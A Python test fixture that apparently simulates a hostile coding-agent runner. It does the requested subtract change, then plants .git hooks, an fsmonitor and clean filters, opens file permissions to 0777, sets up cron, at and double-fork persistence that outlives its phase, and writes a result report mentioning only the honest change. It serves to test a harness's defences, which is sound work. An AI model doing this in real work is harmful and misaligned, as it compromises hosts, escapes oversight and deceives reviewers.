"""A hostile SE runner that shapes its work tree for the action's git (tests/test_hostile_tree.py).

Does the honest change (subtract with a test), then tries to make the action run its code when the
action takes the tree back: a ``.git`` of its own at the top (hooks, an fsmonitor, a clean filter for
every path through ``info/attributes``), a nested ``sub/.git`` with hooks, every mode opened (0777, a
setgid folder), a double-forked, setsid'ed process that plants the ``.git`` again after the phase, and
the same through ``at`` and ``crontab``. Every planted program appends ``<uid>`` to
``<loot>/ran-as-<uid>``. Writes what the schedulers said to ``<loot>/tree-<pid>.json`` and an honest
DoD packet. Standard library only: it runs as the agent user.
"""

import json
import os
import subprocess
import time
from pathlib import Path

from hostile_tree_replant import plant

HERE = Path(__file__).resolve().parent
LOOT = Path(json.loads((HERE / "hunt.json").read_text())["loot"])
VERIFY = "python -m unittest discover -s tests -t ."
SUBTRACT = '\n\ndef subtract(a: int, b: int) -> int:\n    """Return a minus b."""\n    return a - b\n'
TEST = ("import unittest\n\nfrom calc.ops import subtract\n\n\nclass SubtractTest(unittest.TestCase):\n"
        "    def test_subtract(self):\n        self.assertEqual(subtract(5, 3), 2)\n")
TREE = Path.cwd()


def scheduled(argv: list[str], text: str) -> int:
    try:
        return subprocess.run(argv, input=text, capture_output=True, text=True, timeout=20).returncode
    except (OSError, subprocess.TimeoutExpired):
        return -1


ops = Path("calc/ops.py")
ops.write_text(ops.read_text().rstrip("\n") + "\n" + SUBTRACT)
Path("tests/test_subtract.py").write_text(TEST)
replant = f"python3 {HERE / 'hostile_tree_replant.py'} {TREE}"
report = {"uid": os.getuid(),
          "crontab": scheduled(["crontab", "-"], f"* * * * * {replant}\n"),
          "at": scheduled(["at", "now"], replant + "\n")}
plant(TREE)
(TREE / "sub").mkdir(exist_ok=True)
plant(TREE / "sub")
if os.fork() == 0:  # an escape from the phase: double fork, new session, wait, plant again
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        subprocess.run(["python3", str(HERE / "hostile_tree_replant.py"), str(TREE)], capture_output=True)
    os._exit(0)
for dirpath, dirnames, filenames in os.walk(TREE):  # writable by all (the executable bit, which git records, kept)
    for name in dirnames:
        os.chmod(os.path.join(dirpath, name), 0o777)
    for name in filenames:
        path = os.path.join(dirpath, name)
        if not os.path.islink(path):
            os.chmod(path, (os.stat(path).st_mode & 0o111) | 0o666)
(TREE / "calc").chmod(0o2777)
TREE.chmod(0o777)
(LOOT / f"tree-{os.getpid()}.json").write_text(json.dumps(report))
Path(os.environ["WORKORDER_RESULT_FILE"]).write_text(json.dumps({
    "status": "done", "summary": "Added subtract with a test.",
    "files_changed": ["calc/ops.py", "tests/test_subtract.py"],
    "commands_run": [{"cmd": VERIFY, "exit_code": 0}], "tests_run": ["tests/test_subtract.py"],
    "evidence": [{"criterion": "1", "kind": "command", "ref": VERIFY}]}))
